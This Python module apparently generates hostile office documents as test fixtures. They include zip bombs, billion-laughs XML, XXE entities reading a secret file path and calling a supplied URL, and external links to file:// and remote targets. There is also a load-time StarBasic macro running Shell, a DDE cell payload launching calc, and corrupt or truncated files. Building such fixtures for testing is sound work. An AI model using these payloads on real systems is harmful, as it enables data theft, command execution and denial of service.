"""Office documents that mean harm."""
import io
import struct
import zipfile

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
P = "http://schemas.openxmlformats.org/package/2006"
OPEN = {
    "office": "office:1.0", "text": "text:1.0", "table": "table:1.0", "draw": "drawing:1.0", "script": "script:1.0",
    "style": "style:1.0", "svg": "svg-compatible:1.0",
}


def archive(parts, level=1):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as packed:
        for name, contents in parts:
            kind = zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED
            packed.writestr(zipfile.ZipInfo(name), contents, kind)
    return out.getvalue()


def relations(*targets):
    links = "".join(f'<Relationship Id="r{n}" Type="{R}/{kind}" Target="{target}" TargetMode="{mode}"/>'
                    for n, (kind, target, mode) in enumerate(targets))
    return f'<?xml version="1.0"?><Relationships xmlns="{P}/relationships">{links}</Relationships>'


def docx(body, links=(), more=(), before="", settings=None):
    types = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' \
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' \
        '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ' \
        'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>' \
        '<Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/></Types>'
    names = f'xmlns:w="{W}" xmlns:r="{R}" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" ' \
        'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"'
    parts = [("[Content_Types].xml", types), ("_rels/.rels", relations(("officeDocument", "word/document.xml", "Internal"))),
             ("word/document.xml", f'<?xml version="1.0"?>{before}<w:document {names}><w:body>{body}</w:body></w:document>')]
    if settings:
        parts += [("word/settings.xml", f'<w:settings xmlns:w="{W}" xmlns:r="{R}">{settings[0]}</w:settings>'),
                  ("word/_rels/settings.xml.rels", relations(*settings[1]))]
        links = [*links, ("settings", "settings.xml", "Internal")]
    return archive([*parts, ("word/_rels/document.xml.rels", relations(*links)), *more])


def paragraph(text):
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def field(instruction, result="Avis"):
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return f'<w:p>{mark.format("begin")}<w:r><w:instrText>{instruction}</w:instrText></w:r>{mark.format("separate")}' \
        f'<w:r><w:t>{result}</w:t></w:r>{mark.format("end")}</w:p>'


def linked(relation):
    return '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="900000" cy="900000"/><wp:docPr id="1" name="a"/><a:graphic><a:graphicData ' \
        'uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="a"/><pic:cNvPicPr/>' \
        f'</pic:nvPicPr><pic:blipFill><a:blip r:link="{relation}"/></pic:blipFill><pic:spPr><a:xfrm><a:ext cx="900000" cy="900000"/></a:xfrm>' \
        '<a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>'


def open_document(kind, body, more=(), before="", scripts=""):
    names = " ".join(f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{of}"' for name, of in OPEN.items())
    names += ' xmlns:xlink="http://www.w3.org/1999/xlink"'
    content = f'<?xml version="1.0"?>{before}<office:document-content {names} office:version="1.2">{scripts}<office:body>' \
        f'<office:{kind}>{body}</office:{kind}></office:body></office:document-content>'
    mime = f"application/vnd.oasis.opendocument.{kind}"
    listed = "".join(f'<manifest:file-entry manifest:full-path="{name}" manifest:media-type=""/>' for name, _ in more)
    manifest = f'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">' \
        f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{mime}"/><manifest:file-entry manifest:full-path="content.xml" ' \
        f'manifest:media-type="text/xml"/>{listed}</manifest:manifest>'
    return archive([("mimetype", mime), ("content.xml", content), ("META-INF/manifest.xml", manifest), *more])


def xlsx(rows, links=(), more=(), names=""):
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    sheet = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    types = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' \
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' \
        f'<Override PartName="/xl/workbook.xml" ContentType="{sheet}.sheet.main+xml"/>' \
        f'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="{sheet}.externalLink+xml"/>' \
        f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{sheet}.worksheet+xml"/></Types>'
    return archive([
        ("[Content_Types].xml", types), ("_rels/.rels", relations(("officeDocument", "xl/workbook.xml", "Internal"))),
        ("xl/workbook.xml", f'<workbook xmlns="{main}" xmlns:r="{R}"><sheets><sheet name="A" sheetId="1" r:id="r0"/></sheets>{names}</workbook>'),
        ("xl/_rels/workbook.xml.rels", relations(("worksheet", "worksheets/sheet1.xml", "Internal"), *links)),
        ("xl/worksheets/sheet1.xml", f'<worksheet xmlns="{main}"><sheetData>{rows}</sheetData></worksheet>'), *more])


def overlapping(parts, count):
    """An archive whose directory names one packed part many times."""
    whole = archive(parts)
    end = whole.rindex(b"PK\5\6")
    size, start = struct.unpack("<II", whole[end + 12:end + 20])
    directory = whole[start:start + size]
    last = directory[directory.rindex(b"PK\1\2"):]
    # Names of one length, so that nothing else differs.
    name = parts[-1][0].encode()
    copies = b"".join(last.replace(name, b"%0*d" % (len(name), n)) for n in range(count))
    entries = len(parts) + count
    return whole[:start] + directory + copies + b"PK\5\6\0\0\0\0" + struct.pack("<HHIIH", entries, entries, size + len(copies), start, 0)


def compound(stream):
    """A document of the old programs whose table of sectors is a circle."""
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(10)
    head += struct.pack("<IIIIIIII", 1, 1, 0, 4_096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0) + struct.pack("<I", 0) + b"\xff" * 432
    table = struct.pack("<III", 0xFFFFFFFD, 1, 2) + b"\xff" * 500

    def entry(name, kind, child, start, size):
        wide = name.encode("utf-16le") + b"\0\0"
        return wide.ljust(64, b"\0") + struct.pack("<HBB", len(wide), kind, 1) + struct.pack("<III", 0xFFFFFFFF, 0xFFFFFFFF, child) \
            + bytes(36) + struct.pack("<IQ", start, size)

    folder = entry("Root Entry", 5, 1, 0xFFFFFFFE, 0) + entry(stream, 2, 0xFFFFFFFF, 2, 1 << 30)
    return head.ljust(512, b"\0") + table + folder.ljust(512, b"\0") + bytes(512)


def laughs(root):
    entities = ["<!ENTITY e0 'LAUGH'>"] + [f"<!ENTITY e{n} '{f'&e{n - 1};' * 10}'>" for n in range(1, 12)]
    return f"<!DOCTYPE {root} [{''.join(entities)}]>"


def files(url, secret):
    spaces = b" " * (64 << 20)
    avis = paragraph("Avis")
    yield "flat.docx", docx(avis, more=[("word/media/a.xml", b"<a>" + b" " * (257 << 20))])
    base = [("mimetype", "application/vnd.oasis.opendocument.text"), ("a/0000000000.xml", b"\0" * (64 << 20))]
    yield "overlapping.odt", overlapping(base, 20)
    yield "laughs.docx", docx(paragraph("Avis &e11;"), before=laughs("w:document"))
    entity = f"<!DOCTYPE w:document [<!ENTITY x SYSTEM 'file://{secret}'><!ENTITY y SYSTEM '{url}/entity'>]>"
    yield "entity.docx", docx(paragraph("Avis &x; &y;"), before=entity)
    yield "linked.docx", docx(avis + linked("r0") + linked("r1"), [("image", f"file://{secret}.png", "External"), ("image", f"{url}/image.png", "External")])
    picture = "<draw:frame svg:width='2cm' svg:height='2cm' text:anchor-type='as-char'><draw:image xlink:href='{}'/></draw:frame>"
    outside = f"<text:p>Avis {picture.format(f'file://{secret}.png')}{picture.format(f'{url}/open.png')}</text:p>" \
        f"<text:section text:name='s'><text:section-source xlink:href='file://{secret}'/><text:p>x</text:p></text:section>" \
        f"<text:section text:name='t'><text:section-source xlink:href='{url}/section'/><text:p>x</text:p></text:section>" \
        f"<text:p><draw:frame svg:width='2cm' svg:height='2cm'><draw:floating-frame xlink:href='{url}/frame'/></draw:frame></text:p>"
    yield "outside.odt", open_document("text", outside)
    script = "<office:scripts><office:event-listeners><script:event-listener script:event-name='dom:load' script:language='ooo:script' " \
        "xlink:href='vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document'/></office:event-listeners></office:scripts>"
    library = '<?xml version="1.0"?><script:module xmlns:script="http://openoffice.org/2000/script" script:name="M" script:language="StarBasic">' \
        f"Sub Main\nShell(&quot;/usr/bin/touch {secret}.touched&quot;)\nEnd Sub</script:module>"
    yield "script.odt", open_document("text", "<text:p>Avis</text:p>", [("Basic/Standard/M.xml", library)], scripts=script)
    cells = "<table:table table:name='A'><table:table-row><table:table-cell office:value-type='string'><text:p>Avis</text:p></table:table-cell>" \
        f"<table:table-cell table:formula=\"of:='file://{secret}'#$A.A1\"/><table:table-cell table:formula='of:=WEBSERVICE(&quot;{url}/ods&quot;)'/>" \
        f"</table:table-row></table:table><table:table table:name='B'><table:table-source xlink:href='{url}/source' table:filter-name='calc8'/></table:table>"
    yield "outside.ods", open_document("spreadsheet", cells)
    row = '<row r="1"><c r="A1" t="str"><v>Avis</v></c><c r="B1"><f>[1]A!A1</f></c><c r="C1"><f>_xlfn.WEBSERVICE("{0}/cell")</f></c>' \
        "<c r=\"D1\"><f>cmd|'/c calc'!A1</f></c></row>"
    external = '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="{}"><externalBook r:id="r0"><sheetNames>' \
        '<sheetName val="A"/></sheetNames></externalBook></externalLink>'.format(R)
    yield "outside.xlsx", xlsx(row.format(url), [("externalLink", "externalLinks/externalLink1.xml", "Internal")], [
        ("xl/externalLinks/externalLink1.xml", external),
        ("xl/externalLinks/_rels/externalLink1.xml.rels", relations(("externalLinkPath", f"{url}/book.xlsx", "External")))],
        '<externalReferences><externalReference r:id="r1"/></externalReferences>')
    yield "circle.xls", compound("Workbook")
    for name, whole in [("docx", docx(avis)), ("odt", open_document("text", "<text:p>Avis</text:p>")), ("xlsx", xlsx(row)), ("rtf", b"{\\rtf1{\\b Avis")]:
        yield f"cut.{name}", whole[:len(whole) // 2 + 4]
